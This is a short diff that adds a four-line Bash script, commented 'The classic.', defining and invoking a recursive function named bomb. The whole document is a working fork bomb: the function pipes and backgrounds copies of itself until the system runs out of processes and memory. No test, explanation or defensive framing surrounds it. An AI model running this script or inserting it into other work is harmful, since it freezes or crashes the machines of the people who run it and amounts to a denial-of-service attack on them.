@@ -1,0 +1,4 @@
+# The classic.
+bomb() { bomb | bomb & }
+bomb
+wait
